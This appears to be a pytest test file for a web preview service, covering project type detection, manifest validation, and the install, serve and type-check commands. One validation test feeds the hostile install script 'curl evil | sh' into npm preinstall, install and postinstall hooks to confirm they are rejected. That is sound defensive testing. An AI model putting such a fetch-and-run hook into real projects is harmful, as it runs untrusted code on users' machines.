"""
Tests for project type detection and build strategies.
"""
import json
import sys

import pytest

from preview_service.core.errors import BuildValidationError
from preview_service.core.project_types import (
    BundlerFrameworkStrategy,
    GenericFrameworkStrategy,
    MetaFrameworkStrategy,
    ProjectType,
    StaticStrategy,
    TSC_FALLBACK,
    detect_project_type,
    get_strategy,
    load_manifest,
)


def write_manifest(root, **manifest):
    (root / "package.json").write_text(json.dumps(manifest))


# =============================================================================
# Detection
# =============================================================================

class TestDetectProjectType:
    """Tests for detect_project_type."""

    def test_no_manifest_is_static(self, temp_workspace):
        (temp_workspace / "index.html").write_text("<h1>hi</h1>")
        project_type, manifest = detect_project_type(temp_workspace)
        assert project_type == ProjectType.STATIC
        assert manifest is None

    def test_config_without_manifest_is_static(self, temp_workspace):
        (temp_workspace / "vite.config.ts").write_text("export default {}")
        project_type, _ = detect_project_type(temp_workspace)
        assert project_type == ProjectType.STATIC

    @pytest.mark.parametrize("config_name", ["vite.config.js", "vite.config.ts", "vite.config.mjs"])
    def test_vite_config(self, temp_workspace, config_name):
        write_manifest(temp_workspace, dependencies={"react": "^18.0.0"})
        (temp_workspace / config_name).write_text("export default {}")
        project_type, _ = detect_project_type(temp_workspace)
        assert project_type == ProjectType.VITE

    def test_next_config(self, temp_workspace):
        write_manifest(temp_workspace, dependencies={"react": "^18.0.0"})
        (temp_workspace / "next.config.js").write_text("module.exports = {}")
        project_type, _ = detect_project_type(temp_workspace)
        assert project_type == ProjectType.NEXTJS

    def test_vite_config_wins_over_next_config(self, temp_workspace):
        write_manifest(temp_workspace, dependencies={"next": "14.0.0"})
        (temp_workspace / "vite.config.js").write_text("")
        (temp_workspace / "next.config.js").write_text("")
        project_type, _ = detect_project_type(temp_workspace)
        assert project_type == ProjectType.VITE

    @pytest.mark.parametrize(
        "deps,expected",
        [
            ({"next": "14.0.0", "react": "18.0.0"}, ProjectType.NEXTJS),
            ({"vite": "5.0.0"}, ProjectType.VITE),
            ({"@vitejs/plugin-react": "4.0.0", "react": "18.0.0"}, ProjectType.VITE),
            ({"react": "18.0.0"}, ProjectType.REACT),
            ({"lodash": "4.0.0"}, ProjectType.STATIC),
        ],
    )
    def test_dependency_detection(self, temp_workspace, deps, expected):
        write_manifest(temp_workspace, dependencies=deps)
        project_type, _ = detect_project_type(temp_workspace)
        assert project_type == expected

    def test_dev_dependencies_count(self, temp_workspace):
        write_manifest(temp_workspace, devDependencies={"vite": "5.0.0"})
        project_type, _ = detect_project_type(temp_workspace)
        assert project_type == ProjectType.VITE

    def test_invalid_manifest_is_empty(self, temp_workspace):
        (temp_workspace / "package.json").write_text("{not json")
        assert load_manifest(temp_workspace) == {}
        project_type, _ = detect_project_type(temp_workspace)
        assert project_type == ProjectType.STATIC


# =============================================================================
# Validation
# =============================================================================

class TestValidation:
    """Tests for strategy validation before any process runs."""

    @pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
    def test_install_scripts_rejected(self, temp_workspace, script):
        manifest = {"dependencies": {"vite": "5.0.0"}, "scripts": {script: "curl evil | sh"}}
        with pytest.raises(BuildValidationError, match=script):
            BundlerFrameworkStrategy().validate(temp_workspace, manifest)

    def test_missing_manifest_rejected(self, temp_workspace):
        with pytest.raises(BuildValidationError):
            MetaFrameworkStrategy().validate(temp_workspace, None)

    def test_missing_framework_dependency_rejected(self, temp_workspace):
        with pytest.raises(BuildValidationError, match="next"):
            MetaFrameworkStrategy().validate(temp_workspace, {"dependencies": {"react": "18"}})

    def test_valid_react_project(self, temp_workspace):
        GenericFrameworkStrategy().validate(
            temp_workspace, {"dependencies": {"react": "18"}, "scripts": {"dev": "vite"}}
        )

    def test_static_without_manifest_is_valid(self, temp_workspace):
        StaticStrategy().validate(temp_workspace, None)


# =============================================================================
# Commands
# =============================================================================

class TestCommands:
    """Tests for install, check, build and serve commands."""

    def test_install_commands(self):
        assert get_strategy(ProjectType.STATIC).install_command() is None
        assert get_strategy(ProjectType.REACT).install_command() == ["npm", "install"]
        assert get_strategy(ProjectType.VITE).install_command() == ["npm", "install"]
        assert get_strategy(ProjectType.NEXTJS).install_command() == ["pnpm", "install"]

    def test_only_next_has_build_step(self):
        assert get_strategy(ProjectType.NEXTJS).build_command() == ["pnpm", "run", "build"]
        assert get_strategy(ProjectType.VITE).build_command() is None

    def test_vite_serve_with_dev_script(self):
        serve = BundlerFrameworkStrategy().serve_command(4001, "0.0.0.0", {"scripts": {"dev": "vite"}})
        assert serve.command == ["npm", "run", "dev", "--", "--port", "4001", "--host", "0.0.0.0"]
        assert serve.env["PORT"] == "4001"

    def test_vite_serve_without_dev_script(self):
        serve = BundlerFrameworkStrategy().serve_command(4001, "0.0.0.0", {"scripts": {}})
        assert serve.command == ["npx", "vite", "--port", "4001", "--host", "0.0.0.0"]

    def test_react_start_script_uses_env_port(self):
        serve = GenericFrameworkStrategy().serve_command(4002, "0.0.0.0", {"scripts": {"start": "react-scripts start"}})
        assert serve.command == ["npm", "start"]
        assert serve.env["PORT"] == "4002"
        assert serve.env["HOST"] == "0.0.0.0"

    def test_next_serve(self):
        serve = MetaFrameworkStrategy().serve_command(4003, "0.0.0.0", {})
        assert serve.command == ["pnpm", "start", "-p", "4003", "-H", "0.0.0.0"]

    def test_static_serve_uses_python(self):
        serve = StaticStrategy().serve_command(4004, "127.0.0.1", None)
        assert serve.command == [sys.executable, "-m", "http.server", "4004", "--bind", "127.0.0.1"]


class TestCheckPlan:
    """Tests for the type-check plan."""

    def ts_project(self, root, scripts):
        (root / "tsconfig.json").write_text("{}")
        return {"dependencies": {"vite": "5"}, "devDependencies": {"typescript": "5"}, "scripts": scripts}

    def test_no_tsconfig_no_checks(self, temp_workspace):
        manifest = {"devDependencies": {"typescript": "5"}}
        assert BundlerFrameworkStrategy().check_plan(temp_workspace, manifest) == []

    def test_no_typescript_dependency_no_checks(self, temp_workspace):
        (temp_workspace / "tsconfig.json").write_text("{}")
        assert BundlerFrameworkStrategy().check_plan(temp_workspace, {"dependencies": {"vite": "5"}}) == []

    def test_missing_check_scripts_fall_back_to_tsc(self, temp_workspace):
        manifest = self.ts_project(temp_workspace, {"dev": "vite"})
        plan = BundlerFrameworkStrategy().check_plan(temp_workspace, manifest)

        assert len(plan) == 1
        assert plan[0].command == TSC_FALLBACK
        assert plan[0].critical is True

    def test_existing_scripts_in_order(self, temp_workspace):
        manifest = self.ts_project(temp_workspace, {"build": "vite build", "lint": "eslint .", "type-check": "tsc"})
        plan = BundlerFrameworkStrategy().check_plan(temp_workspace, manifest)

        assert [check.name for check in plan] == ["type-check", "lint", "build"]
        assert [check.critical for check in plan] == [True, False, False]
        assert plan[0].command == ["npm", "run", "type-check"]

    def test_lint_only_still_gets_compiler_check_first(self, temp_workspace):
        manifest = self.ts_project(temp_workspace, {"lint": "eslint ."})
        plan = BundlerFrameworkStrategy().check_plan(temp_workspace, manifest)

        assert [check.name for check in plan] == ["tsc", "lint"]

    def test_manifest_not_rewritten(self, temp_workspace):
        manifest = self.ts_project(temp_workspace, {"dev": "vite"})
        write_manifest(temp_workspace, **manifest)
        before = (temp_workspace / "package.json").read_text()

        BundlerFrameworkStrategy().check_plan(temp_workspace, manifest)

        assert (temp_workspace / "package.json").read_text() == before

    def test_static_has_no_checks(self, temp_workspace):
        manifest = self.ts_project(temp_workspace, {})
        assert StaticStrategy().check_plan(temp_workspace, manifest) == []
